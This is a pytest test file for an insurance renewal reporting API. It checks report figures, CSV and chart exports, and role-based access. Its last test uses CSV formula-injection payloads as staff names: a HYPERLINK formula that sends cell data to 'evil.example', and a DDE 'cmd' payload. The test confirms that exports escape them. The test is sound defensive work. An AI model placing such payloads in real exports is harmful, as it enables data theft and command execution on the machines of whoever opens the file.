"""Reports over a fixture of cases with known outcomes (March 2026, February beside it): exact
counts and rates in JSON and CSV, charts that decode with bars where the figures put them, and
each reader held to their scope."""

from __future__ import annotations

import csv
import html
import io
import re
import uuid
from collections import Counter
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import pytest_asyncio
from PIL import Image
from sqlmodel import Session
from typer.testing import CliRunner

from api.console.session import SESSION_COOKIE
from models import RenewalCase, Role, Task
from renewals.reports import charts
from renewals.reports import queries as q
from renewals.dev.demo_users import create_demo_users
from renewals.dev.seed import create_policy
from renewals.org.service import add_org
from tests.api.conftest import Api, add_person
from tests.scenario import unique_phone

pytestmark = pytest.mark.asyncio(loop_scope="session")

TZ = ZoneInfo("Asia/Shanghai")
MARCH = {"from": "2026-03-01", "to": "2026-03-31"}


@dataclass
class World:
    branch: str
    s1: str
    s2: str
    a: uuid.UUID  # sales 甲经理 in s1
    b: uuid.UUID  # sales 乙经理 in s1
    c: uuid.UUID  # sales 丙经理 in s2
    headers: dict[str, dict[str, str]]


def _local(day: date, hour: int, minute: int = 0) -> datetime:
    return datetime(day.year, day.month, day.day, hour, minute, tzinfo=TZ)


# owner, expiry, outcome, loss reason, the stage it ended in (or is in), escalated, the day it started on
CASES = [
    ("a", date(2026, 3, 10), "RENEWED", None, "FIRST_CONTACT", False, -90),
    ("a", date(2026, 3, 11), "RENEWED", None, "THIRD_CONTACT", False, -90),
    ("a", date(2026, 3, 12), "RENEWED", None, "THIRD_CONTACT", False, -25),  # imported late: from SECOND_CONTACT
    ("a", date(2026, 3, 13), "RENEWED", None, "FINAL_CONTACT", True, -90),
    ("a", date(2026, 3, 14), "LOST", "price", "POST_EXPIRY", False, -90),
    ("a", date(2026, 3, 15), "LOST", "claims", "FINAL_CONTACT", False, -90),
    ("a", date(2026, 3, 16), "LAPSED", None, "POST_EXPIRY", True, -90),
    ("a", date(2026, 3, 17), "CLOSED", "vehicle_scrapped", "SECOND_CONTACT", False, -90),
    ("a", date(2026, 3, 18), None, None, "THIRD_CONTACT", False, -90),
    ("a", date(2026, 3, 31), None, None, "WAITING", False, -90),
    ("b", date(2026, 3, 1), "RENEWED", None, "DEPUTY_SUPERVISION", True, -90),
    ("b", date(2026, 3, 20), "LAPSED", None, "POST_EXPIRY", False, -90),
    ("c", date(2026, 3, 5), "RENEWED", None, "SECOND_CONTACT", False, -90),
    ("c", date(2026, 3, 6), "RENEWED", None, "SECOND_CONTACT", False, -90),
    ("c", date(2026, 3, 7), "RENEWED", None, "SECOND_CONTACT", False, -90),
    # February: the previous period
    ("a", date(2026, 2, 1), "RENEWED", None, "FIRST_CONTACT", False, -90),
    ("a", date(2026, 2, 28), "RENEWED", None, "FIRST_CONTACT", False, -90),
    ("a", date(2026, 2, 10), "LAPSED", None, "POST_EXPIRY", False, -90),
    ("a", date(2026, 2, 11), "LAPSED", None, "POST_EXPIRY", False, -90),
    ("c", date(2026, 2, 12), "LOST", "relationship", "FINAL_CONTACT", False, -90),
    # April: outside both periods
    ("a", date(2026, 4, 1), "RENEWED", None, "FIRST_CONTACT", False, -90),
]


@pytest_asyncio.fixture(scope="module")
async def world(api: Api, engine) -> World:
    suffix = uuid.uuid4().hex[:6]
    branch, s1, s2 = f"B{suffix}", f"S1{suffix}", f"S2{suffix}"
    with Session(engine, expire_on_commit=False) as session:
        add_org(session, branch_code=branch, branch_name="上海分公司", sub_branch_code=s1, sub_branch_name="黄浦支公司")
        add_org(session, branch_code=branch, sub_branch_code=s2, sub_branch_name="静安支公司")
        session.commit()
    people = {
        "a": add_person(engine, Role.sales, sub_branch_code=s1, name="甲经理"),
        "b": add_person(engine, Role.sales, sub_branch_code=s1, name="乙经理"),
        "c": add_person(engine, Role.sales, sub_branch_code=s2, name="丙经理"),
        "deputy1": add_person(engine, Role.deputy, sub_branch_code=s1, name="副经理一"),
        "deputy2": add_person(engine, Role.deputy, sub_branch_code=s2, name="副经理二"),
        "manager": add_person(engine, Role.manager, branch_code=branch, name="分公司经理"),
        "auditor": add_person(engine, Role.auditor, name="审计"),
    }
    deputy_of = {"a": people["deputy1"], "b": people["deputy1"], "c": people["deputy2"]}
    case_ids = []
    with Session(engine, expire_on_commit=False) as session:
        for owner, expiry, outcome, reason, stage, escalated, start_day in CASES:
            person = people[owner]
            policy = create_policy(
                session, policy_no=f"RPT{uuid.uuid4().int % 10**12:012d}", sub_branch_id=person.sub_branch_id,
                owner_id=person.id, expires_on=expiry, customer_name="钱多多", phone=unique_phone(),
                id_number="310101199001011234", plate="沪A00001").policy
            case = RenewalCase(
                id=uuid.uuid4(), workflow_id=f"renewal-{policy.policy_no}", policy_id=policy.id,
                policy_no=policy.policy_no, expiry_date=expiry, timezone="Asia/Shanghai",
                sub_branch_id=person.sub_branch_id, stage=stage, owner_id=person.id, deputy_id=deputy_of[owner].id,
                escalated=escalated, outcome=outcome, outcome_reason=reason, outcome_stage=stage if outcome else None,
                started_at=_local(expiry + timedelta(days=start_day), 10))
            session.add(case)
            case_ids.append(case.id)
        session.flush()
        # Tasks opened in March 2026 (days in Asia/Shanghai).
        a_case, b_case = case_ids[8], case_ids[11]
        a, b, deputy1 = people["a"].id, people["b"].id, people["deputy1"].id

        def task(case_id, assignee, kind, stage, opens: datetime, due: datetime, state, handled: datetime | None = None):
            session.add(Task(id=uuid.uuid4(), case_id=case_id, assignee_id=assignee, kind=kind, stage=stage,
                             opens_at=opens, due_at=due, state=state, handled_at=handled,
                             handled_by=assignee if handled else None))

        march = date(2026, 3, 1)
        day = lambda n: march + timedelta(days=n - 1)  # noqa: E731
        task(a_case, a, "call", "THIRD_CONTACT", _local(day(2), 9), _local(day(3), 0), "done", _local(day(2), 10))
        task(a_case, a, "call", "THIRD_CONTACT", _local(day(3), 9), _local(day(4), 0), "done", _local(day(3), 12))
        task(a_case, a, "call", "THIRD_CONTACT", _local(day(4), 9), _local(day(5), 0), "expired")
        task(a_case, a, "call", "THIRD_CONTACT", _local(day(5), 9), _local(day(6), 0), "open")  # missed, not yet expired
        task(a_case, a, "call", "FIRST_CONTACT", _local(day(1), 9), _local(day(16), 0), "open")  # overdue
        task(a_case, a, "call", "THIRD_CONTACT", _local(day(6), 9), _local(day(7), 0), "cancelled")  # not counted
        task(a_case, deputy1, "supervision", "DEPUTY_SUPERVISION", _local(day(10), 9), _local(day(13), 0), "done",
             _local(day(10), 11))
        task(b_case, b, "call", "FINAL_CONTACT", _local(day(20), 9), _local(day(21), 0), "done", _local(day(20), 9, 30))
        task(b_case, b, "call", "FINAL_CONTACT", _local(day(1) - timedelta(days=1), 9), _local(day(1), 0), "expired")
        session.commit()
    headers = {role: await api.sign_in(person.id) for role, person in people.items()}
    return World(branch, s1, s2, people["a"].id, people["b"].id, people["c"].id, headers)


def _figures(row: dict) -> tuple:
    now = row["current"]
    return (now["due"], now["renewed"], now["lost"], now["lapsed"], now["closed"], now["open"], now["renewal_rate"],
            now["lapse_rate"])


async def test_renewal_report_counts_and_rates_by_manager_sub_branch_and_branch(api: Api, world: World):
    response = await api.get("/reports/renewals", params=MARCH, headers=world.headers["manager"])
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["period"] == {"start": "2026-03-01", "end": "2026-03-31"}
    assert body["previous_period"] == {"start": "2026-02-01", "end": "2026-02-28"}
    managers = {m["manager_name"]: m for m in body["managers"]}
    assert _figures(managers["甲经理"]) == (10, 4, 2, 1, 1, 2, 0.4444, 0.1111)
    assert managers["甲经理"]["current"]["lost_by_reason"] == {"price": 1, "claims": 1}
    assert _figures(managers["乙经理"]) == (2, 1, 0, 1, 0, 0, 0.5, 0.5)
    assert _figures(managers["丙经理"]) == (3, 3, 0, 0, 0, 0, 1.0, 0.0)
    previous = managers["甲经理"]["previous"]
    assert (previous["due"], previous["renewed"], previous["lapsed"], previous["renewal_rate"]) == (4, 2, 2, 0.5)
    assert managers["乙经理"]["previous"]["renewal_rate"] is None  # nothing due in February
    assert managers["丙经理"]["previous"]["lost_by_reason"] == {"relationship": 1}
    subs = {s["sub_branch_code"]: s for s in body["sub_branches"]}
    assert _figures(subs[world.s1]) == (12, 5, 2, 2, 1, 2, 0.4545, 0.1818)
    assert _figures(subs[world.s2]) == (3, 3, 0, 0, 0, 0, 1.0, 0.0)
    assert [b["branch_code"] for b in body["branches"]] == [world.branch]
    assert _figures(body["total"]) == (15, 8, 2, 2, 1, 2, 0.5714, 0.1429)
    assert _figures(body["branches"][0]) == _figures(body["total"])


async def test_renewal_report_as_csv_for_a_chinese_excel(api: Api, world: World):
    response = await api.get("/reports/renewals", params=MARCH | {"format": "csv"}, headers=world.headers["manager"])
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark: Excel reads it as UTF-8"
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_name = {r["客户经理"]: r for r in rows if r["层级"] == "客户经理"}
    a = by_name["甲经理"]
    assert (a["到期"], a["续保"], a["流失"], a["脱保"], a["注销"], a["跟进中"]) == ("10", "4", "2", "1", "1", "2")
    assert (a["续保率"], a["脱保率"], a["流失-价格原因"], a["流失-理赔原因"]) == ("44.4%", "11.1%", "1", "1")
    assert (a["上期到期"], a["上期续保率"]) == ("4", "50.0%")
    total = next(r for r in rows if r["层级"] == "合计")
    assert (total["到期"], total["续保率"], total["脱保率"]) == ("15", "57.1%", "14.3%")
    assert [r["层级"] for r in rows] == ["合计", "分公司", "支公司", "客户经理", "客户经理", "支公司", "客户经理"]


async def test_funnel_counts_the_stages_cases_went_through_and_where_they_were_won(api: Api, world: World):
    body = (await api.get("/reports/funnel", params=MARCH, headers=world.headers["auditor"])).json()
    stages = {s["stage"]: (s["reached"], s["renewed"], s["lost"]) for s in body["stages"]}
    assert stages == {"FIRST_CONTACT": (13, 1, 0), "SECOND_CONTACT": (13, 3, 0), "THIRD_CONTACT": (9, 2, 0),
                      "DEPUTY_SUPERVISION": (3, 1, 0), "FINAL_CONTACT": (5, 1, 1), "POST_EXPIRY": (3, 0, 1)}
    assert (body["cases"], body["waiting"], body["renewed"], body["renewal_rate"]) == (15, 1, 8, 0.5333)
    csv_body = (await api.get("/reports/funnel", params=MARCH | {"format": "csv"},
                              headers=world.headers["auditor"])).content.decode("utf-8-sig")
    rows = {r["阶段"]: r for r in csv.DictReader(io.StringIO(csv_body))}
    assert (rows["第三次接触 THIRD_CONTACT"]["进入"], rows["第三次接触 THIRD_CONTACT"]["在此续保"]) == ("9", "2")


async def test_task_compliance_per_manager(api: Api, world: World):
    body = (await api.get("/reports/tasks", params=MARCH, headers=world.headers["deputy1"])).json()
    rows = {r["manager_name"]: r for r in body["managers"]}
    a = rows["甲经理"]
    assert (a["opened"], a["handled"], a["daily_due"], a["handled_same_day"], a["compliance_rate"], a["missed"],
            a["overdue_open"], a["pending"], a["escalations"], a["median_minutes_to_handle"]) == (
        5, 2, 4, 2, 0.5, 2, 1, 0, 2, 120.0)  # escalations: supervision opened in March (T-10) for cases 4 and 7
    assert (rows["乙经理"]["handled_same_day"], rows["乙经理"]["compliance_rate"]) == (1, 1.0)
    assert rows["乙经理"]["escalations"] == 0  # escalated case 11 (expiring 1 March) went to the deputy in February
    deputy = rows["副经理一"]
    assert (deputy["opened"], deputy["handled"], deputy["compliance_rate"], deputy["median_minutes_to_handle"]) == (
        1, 1, None, 120.0)
    total = body["total"]
    assert (total["opened"], total["handled_same_day"], total["daily_due"], total["compliance_rate"],
            total["escalations"], total["median_minutes_to_handle"]) == (7, 3, 5, 0.6, 2, 90.0)
    csv_rows = list(csv.DictReader(io.StringIO((await api.get(
        "/reports/tasks", params=MARCH | {"format": "csv"}, headers=world.headers["deputy1"])).content.decode("utf-8-sig"))))
    a_csv = next(r for r in csv_rows if r["客户经理"] == "甲经理")
    assert (a_csv["当日办理率"], a_csv["当日未办"], a_csv["办理时长中位数（分钟）"]) == ("50.0%", "2", "120")


async def test_sales_read_only_their_own_figures(api: Api, world: World):
    own = (await api.get("/reports/renewals", params=MARCH, headers=world.headers["a"])).json()
    assert [m["manager_name"] for m in own["managers"]] == ["甲经理"]
    assert _figures(own["total"]) == (10, 4, 2, 1, 1, 2, 0.4444, 0.1111)
    tasks = (await api.get("/reports/tasks", params=MARCH, headers=world.headers["a"])).json()
    assert [m["manager_name"] for m in tasks["managers"]] == ["甲经理"]  # not the deputy's task on their case
    for path in ("/reports/renewals", "/reports/funnel", "/reports/tasks"):
        for fmt in ("json", "csv", "png"):
            refused = await api.get(path, params=MARCH | {"manager": str(world.b), "format": fmt},
                                    headers=world.headers["a"])
            assert refused.status_code == 403, (path, fmt)
            assert refused.json()["error"]["field"] == "manager"
    refused = await api.get("/reports/renewals", params=MARCH | {"sub_branch": world.s2}, headers=world.headers["a"])
    assert refused.status_code == 403


async def test_a_deputy_sees_only_their_sub_branch(api: Api, world: World):
    body = (await api.get("/reports/renewals", params=MARCH, headers=world.headers["deputy1"])).json()
    assert sorted(m["manager_name"] for m in body["managers"]) == ["乙经理", "甲经理"]
    assert [s["sub_branch_code"] for s in body["sub_branches"]] == [world.s1]
    assert _figures(body["total"]) == (12, 5, 2, 2, 1, 2, 0.4545, 0.1818)
    funnel = (await api.get("/reports/funnel", params=MARCH, headers=world.headers["deputy1"])).json()
    assert funnel["cases"] == 12
    for params in ({"sub_branch": world.s2}, {"manager": str(world.c)}):
        refused = await api.get("/reports/renewals", params=MARCH | params, headers=world.headers["deputy1"])
        assert refused.status_code == 403, params
    narrowed = (await api.get("/reports/renewals", params=MARCH | {"manager": str(world.b)},
                              headers=world.headers["deputy1"])).json()
    assert [m["manager_name"] for m in narrowed["managers"]] == ["乙经理"]
    mine = (await api.get("/reports/renewals", params=MARCH | {"sub_branch": world.s2},
                          headers=world.headers["manager"])).json()
    assert _figures(mine["total"]) == (3, 3, 0, 0, 0, 0, 1.0, 0.0)


def _pixel(image: Image.Image, x_data: float, value: float, bars: int) -> tuple[int, int, int]:
    """The pixel at data point (x_data, value) of a bar chart with `bars` groups on the fixed axes."""
    left, bottom, width, height = charts.AXES_RECT
    x0, x1 = -0.6, bars - 0.4
    px = round((left + (x_data - x0) / (x1 - x0) * width) * charts.WIDTH_PX)
    py = round((1 - (bottom + value * height)) * charts.HEIGHT_PX)
    return image.getpixel((px, py))[:3]


def _hex(colour: str) -> tuple[int, int, int]:
    return tuple(int(colour[i:i + 2], 16) for i in (1, 3, 5))


async def test_rates_chart_draws_each_managers_bars_to_their_rates(api: Api, world: World):
    managers = (await api.get("/reports/renewals", params=MARCH, headers=world.headers["manager"])).json()["managers"]
    response = await api.get("/reports/renewals", params=MARCH | {"format": "png"}, headers=world.headers["manager"])
    assert response.status_code == 200 and response.headers["content-type"] == "image/png"
    image = Image.open(io.BytesIO(response.content)).convert("RGB")
    assert image.size == (charts.WIDTH_PX, charts.HEIGHT_PX)
    white = (255, 255, 255)
    for i, m in enumerate(managers):
        renewal, lapse = m["current"]["renewal_rate"], m["current"]["lapse_rate"]
        assert _pixel(image, i - charts.BAR_OFFSET, renewal / 2, len(managers)) == _hex(charts.RENEWED), m["manager_name"]
        if renewal < 0.95:  # blank above the bar (a full bar reaches the title)
            assert _pixel(image, i - charts.BAR_OFFSET, (1 + renewal) / 2 + 0.02, len(managers)) == white
        if lapse:
            assert _pixel(image, i + charts.BAR_OFFSET, lapse / 2, len(managers)) == _hex(charts.LAPSED)
        assert _pixel(image, i + charts.BAR_OFFSET, (1 + lapse) / 2, len(managers)) == white


async def test_every_report_renders_png_and_svg(api: Api, world: World):
    for path, extra in (("/reports/renewals", {}), ("/reports/renewals", {"chart": "loss_reasons"}),
                        ("/reports/funnel", {}), ("/reports/tasks", {})):
        png = await api.get(path, params=MARCH | extra | {"format": "png"}, headers=world.headers["manager"])
        image = Image.open(io.BytesIO(png.content)).convert("RGB")
        assert image.size == (charts.WIDTH_PX, charts.HEIGHT_PX)
        colours = {c for _, c in image.getcolors(maxcolors=1 << 20)}
        assert len(colours) > 20, f"{path} {extra}: a chart, not a blank page"
        svg = await api.get(path, params=MARCH | extra | {"format": "svg"}, headers=world.headers["manager"])
        assert svg.headers["content-type"] == "image/svg+xml" and b"<svg" in svg.content[:400]
        # Opened in a tab, the chart keeps its inline styles and can run nothing.
        assert svg.headers["content-security-policy"].startswith("default-src 'none'; style-src 'unsafe-inline'")


async def test_bad_periods_are_refused_naming_the_field(api: Api, world: World):
    backwards = await api.get("/reports/renewals", params={"from": "2026-03-31", "to": "2026-03-01"},
                              headers=world.headers["manager"])
    assert backwards.status_code == 422 and backwards.json()["error"]["field"] == "to"
    garbled = await api.get("/reports/tasks", params={"from": "March"}, headers=world.headers["manager"])
    assert garbled.status_code == 422 and garbled.json()["error"]["field"] == "from"
    bad_code = await api.get("/reports/funnel", params={"branch": "3100\n"}, headers=world.headers["manager"])
    assert bad_code.status_code == 422 and bad_code.json()["error"]["field"] == "branch"


async def test_the_demo_manager_opens_every_report_as_json_csv_and_png(api: Api, engine):
    with Session(engine) as session:
        add_org(session, branch_code="3100", branch_name="上海分公司", sub_branch_code="310101",
                sub_branch_name="黄浦支公司")
        create_demo_users(session, sub_branch_code="310101", branch_code="3100", settings=api.settings)
        session.commit()
    token = (await api.post("/auth/token", data={"username": "demo-manager", "password": "demo"})).json()
    headers = {"Authorization": f"Bearer {token['access_token']}"}
    for path in ("/reports/renewals", "/reports/funnel", "/reports/tasks"):
        for fmt, kind in (("json", "application/json"), ("csv", "text/csv"), ("png", "image/png")):
            response = await api.get(path, params={"format": fmt}, headers=headers)
            assert response.status_code == 200, (path, fmt, response.text[:200])
            assert response.headers["content-type"].startswith(kind)


def _console(headers: dict[str, str]) -> dict[str, str]:
    """The console's session cookie for a reader: it carries the API's bearer token."""
    return {"Cookie": f"{SESSION_COOKIE}={headers['Authorization'].removeprefix('Bearer ')}"}


async def _manager_page_files(api: Api, cookie: dict[str, str]) -> list[str]:
    """Opens the manager's report page for March; the charts and CSV downloads it links to."""
    page = await api.get("/app/manager", params=MARCH, headers=cookie)
    assert page.status_code == 200, page.text[:300]
    return [html.unescape(url) for url in re.findall(r'(?:src|href)="(/app/manager/reports/[^"]+)"', page.text)]


async def test_a_manager_page_view_computes_each_report_once(api: Api, world: World, monkeypatch):
    computed: Counter[str] = Counter()
    for name in ("renewals_report", "funnel", "tasks_report"):
        def counting(*args, _compute=getattr(q, name), _name=name, **kwargs):
            computed[_name] += 1
            return _compute(*args, **kwargs)

        monkeypatch.setattr(q, name, counting)
    cookie = _console(world.headers["manager"])
    files = await _manager_page_files(api, cookie)
    assert sum("format=svg" in url for url in files) == 4 and sum("format=csv" in url for url in files) == 3
    for url in files:
        response = await api.get(url, headers=cookie)
        assert response.status_code == 200, url
        assert response.headers["content-type"].split(";")[0] in ("image/svg+xml", "text/csv"), url
    assert computed == {"renewals_report": 1, "funnel": 1, "tasks_report": 1}, "the page, its charts and CSVs"
    await _manager_page_files(api, cookie)
    assert computed == {"renewals_report": 2, "funnel": 2, "tasks_report": 2}, "a new page view reads afresh"


async def test_a_page_views_charts_give_another_reader_their_own_figures(api: Api, world: World, engine):
    other_branch = f"O{uuid.uuid4().hex[:6]}"
    with Session(engine) as session:
        add_org(session, branch_code=other_branch, branch_name="苏州分公司")
        session.commit()
    other = _console(await api.sign_in(add_person(engine, Role.manager, branch_code=other_branch).id))
    manager = _console(world.headers["manager"])

    def renewals_csv(files: list[str]) -> str:
        return next(url for url in files if url.startswith("/app/manager/reports/renewals") and "format=csv" in url)

    mine, theirs = renewals_csv(await _manager_page_files(api, manager)), renewals_csv(await _manager_page_files(api, other))
    own = (await api.get(mine, headers=manager)).content
    their_own = (await api.get(theirs, headers=other)).content
    assert "甲经理" in own.decode("utf-8-sig") and "甲经理" not in their_own.decode("utf-8-sig")
    followed = await api.get(mine, headers=other)  # the other manager follows this manager's link
    assert followed.status_code == 200 and followed.content == their_own


async def test_report_cli_prints_the_same_figures(world: World, database_url, monkeypatch):
    from renewals.cli.main import app as cli
    from renewals.core.db import get_engine
    from renewals.core.settings import get_settings

    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("COLUMNS", "400")
    get_settings.cache_clear()
    get_engine.cache_clear()
    try:
        runner = CliRunner()
        renewals = runner.invoke(cli, ["report", "renewals", "--from", "2026-03-01", "--to", "2026-03-31",
                                       "--sub-branch", world.s1])
        assert renewals.exit_code == 0, renewals.output
        a_line = next(line for line in renewals.output.splitlines() if "甲经理" in line)
        assert "44.4%" in a_line and "11.1%" in a_line
        funnel = runner.invoke(cli, ["report", "funnel", "--from", "2026-03-01", "--to", "2026-03-31",
                                     "--branch", world.branch])
        assert funnel.exit_code == 0 and "THIRD_CONTACT" in funnel.output
        tasks = runner.invoke(cli, ["report", "tasks", "--from", "2026-03-01", "--to", "2026-03-31"])
        assert tasks.exit_code == 0 and "50.0%" in next(l for l in tasks.output.splitlines() if "甲经理" in l)
        backwards = runner.invoke(cli, ["report", "tasks", "--from", "2026-03-31", "--to", "2026-03-01"])
        assert backwards.exit_code == 2 and "to:" in backwards.output
    finally:
        get_settings.cache_clear()
        get_engine.cache_clear()


async def test_a_staff_name_written_as_a_formula_reaches_every_csv_export_as_text(api: Api, engine):
    """CSV formula injection: a spreadsheet runs a cell that starts with = + - @ (or a tab or CR);
    every export writes such a cell behind a single quote, so it opens as the text it is."""
    suffix = uuid.uuid4().hex[:6]
    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2", "-2+3"]
    with Session(engine, expire_on_commit=False) as session:
        add_org(session, branch_code=f"F{suffix}", branch_name="公式分公司", sub_branch_code=f"FS{suffix}",
                sub_branch_name="公式支公司")
        session.commit()
    people = [add_person(engine, Role.sales, sub_branch_code=f"FS{suffix}", name=name) for name in names]
    manager = await api.sign_in(add_person(engine, Role.manager, branch_code=f"F{suffix}").id)
    with Session(engine) as session:
        for person in people:
            policy = create_policy(
                session, policy_no=f"CSV{uuid.uuid4().int % 10**12:012d}", sub_branch_id=person.sub_branch_id,
                owner_id=person.id, expires_on=date(2026, 3, 10), customer_name="钱多多", phone=unique_phone(),
                id_number="310101199001011234", plate="沪A00001").policy
            case = RenewalCase(
                id=uuid.uuid4(), workflow_id=f"renewal-{policy.policy_no}", policy_id=policy.id,
                policy_no=policy.policy_no, expiry_date=policy.expires_on, timezone="Asia/Shanghai",
                sub_branch_id=person.sub_branch_id, stage="FIRST_CONTACT", owner_id=person.id, deputy_id=person.id,
                started_at=_local(date(2026, 1, 1), 10))
            session.add(case)
            session.flush()
            session.add(Task(id=uuid.uuid4(), case_id=case.id, assignee_id=person.id, kind="call",
                             stage="FIRST_CONTACT", opens_at=_local(date(2026, 3, 2), 9),
                             due_at=_local(date(2026, 3, 3), 0), state="open"))
        session.commit()
    exports = {path: (await api.get(path, params=MARCH | {"format": "csv"}, headers=manager)).content
               for path in ("/reports/renewals", "/reports/tasks", "/reports/funnel")}
    cookie = _console(manager)
    for url in await _manager_page_files(api, cookie):
        if "format=csv" in url:
            exports[url.split("?")[0]] = (await api.get(url, headers=cookie)).content  # the console's
    assert len(exports) == 6
    for export, content in exports.items():
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], export
        if "funnel" not in export:  # (the funnel has no names)
            assert {f"'{name}" for name in names} <= set(cells), export
